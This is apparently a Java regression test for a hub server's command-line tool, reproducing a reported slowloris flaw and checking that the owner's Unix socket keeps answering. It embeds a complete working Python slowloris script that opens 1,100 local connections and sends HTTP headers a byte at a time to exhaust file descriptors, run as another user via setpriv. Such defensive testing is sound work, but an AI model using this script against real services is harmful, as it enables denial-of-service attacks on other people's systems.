package dev.agentwire.cli;

import static dev.agentwire.cli.AwRunner.aw;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.agentwire.protocol.Json;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Issue 11, finding 3, as it was run: another local user (uid 65534) opens 1,100 TCP connections to a hub whose
 * process may hold 1,024 descriptors and sends {@code GET /health} headers one byte at a time. It exhausted the
 * descriptors, and the owner's {@code hub.sock} ping and {@code aw status} timed out. Now the strangers take at most
 * their share, their requests run into the header deadline, and the owner's Unix socket keeps answering.
 */
class SlowlorisTest {

    private static final String ATTACKER = String.join(
            "\n",
            "import json, resource, socket, sys, time",
            "port, n, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])",
            "soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)",
            "resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))",
            "head = b'GET /health HTTP/1.1\\r\\nHost: 127.0.0.1:' + str(port).encode() + b'\\r\\nX-Slow: '",
            "stats = {'opened': 0, 'connectFailed': 0, 'closedByHub': 0}",
            "live = []",
            "def open_one():",
            "    s = socket.socket()",
            "    s.settimeout(2)",
            "    try:",
            "        s.connect(('127.0.0.1', port))",
            "        s.setblocking(False)",
            "        live.append([s, 0])",
            "        stats['opened'] += 1",
            "    except OSError:",
            "        stats['connectFailed'] += 1",
            "        s.close()",
            "for i in range(n):",
            "    open_one()",
            "end = time.time() + secs",
            "while time.time() < end:",
            "    for entry in list(live):",
            "        s, sent = entry",
            "        try:",
            "            s.send(head[sent:sent + 1] if sent < len(head) else b'a')",
            "            entry[1] = sent + 1",
            "            s.recv(1)",
            "        except BlockingIOError:",
            "            pass",
            "        except OSError:",
            "            stats['closedByHub'] += 1",
            "            live.remove(entry)",
            "            s.close()",
            "            open_one()",
            "    time.sleep(0.2)",
            "print(json.dumps(stats))");

    @BeforeAll
    static void needsRootSetprivPython() throws IOException {
        assumeTrue(
                Files.readString(Path.of("/proc/self/status")).lines().anyMatch(l -> l.matches("Uid:\\s+0\\s.*")),
                "needs root to run the attacker as another uid with setpriv");
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")), "needs setpriv (util-linux)");
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/python3")), "needs python3 for the attacker");
    }

    @Test
    void strangersSendingHeadersByteByByteDoNotLockTheOwnerOut() throws Exception {
        Path dir = Files.createTempDirectory(Path.of("/tmp"), "aw");
        Path home = dir.resolve("home");
        Path script = dir.resolve("slowloris.py");
        Files.writeString(script, ATTACKER, StandardCharsets.UTF_8);
        Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rw-r--r--"));
        List<String> hub = new ArrayList<>(List.of("/bin/sh", "-c", "ulimit -n 1024 && exec \"$0\" \"$@\""));
        hub.addAll(AwRunner.processCommand(
                "hub", "--home", home.toString(), "--port", "0", "--set", "limits.httpHeaderTimeoutMs=3000"));
        Process p = new ProcessBuilder(hub)
                .redirectErrorStream(true)
                .redirectOutput(dir.resolve("hub.log").toFile())
                .start();
        Process attacker = null;
        try {
            await().atMost(Duration.ofSeconds(60)).until(() -> Files.exists(home.resolve("hub.json")));
            JsonNode info = Json.mapper().readTree(home.resolve("hub.json").toFile());
            String socket = "unix:" + home.resolve("hub.sock");
            attacker = new ProcessBuilder(
                            "/usr/bin/setpriv",
                            "--reuid=65534",
                            "--regid=65534",
                            "--clear-groups",
                            "/usr/bin/python3",
                            script.toString(),
                            info.path("port").asText(),
                            "1100",
                            "12")
                    .redirectError(ProcessBuilder.Redirect.INHERIT)
                    .start();
            // While the strangers hold their connections, the owner's socket answers every time.
            long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
            int pings = 0;
            while (System.nanoTime() < end) {
                AwRunner.Result ping = aw("ping", "-n", "1", "--timeout", "5s", "--connect", socket);
                assertThat(ping.code())
                        .as("aw ping during the attack: %s%s", ping.out(), ping.err())
                        .isZero();
                AwRunner.Result status = aw("status", "--timeout", "5s", "--connect", socket);
                assertThat(status.code())
                        .as("aw status during the attack: %s", status.err())
                        .isZero();
                pings++;
            }
            assertThat(pings).isPositive();
            assertThat(attacker.waitFor(120, TimeUnit.SECONDS)).isTrue();
            JsonNode stats = Json.mapper()
                    .readTree(new String(attacker.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
            assertThat(stats.path("closedByHub").asInt())
                    .as("connections over the budget or past the header deadline are closed: %s", stats)
                    .isGreaterThan(0);
            assertThat(p.isAlive()).isTrue();
        } finally {
            if (attacker != null) {
                attacker.destroyForcibly();
            }
            p.destroy();
            if (!p.waitFor(30, TimeUnit.SECONDS)) {
                p.destroyForcibly();
            }
        }
    }
}
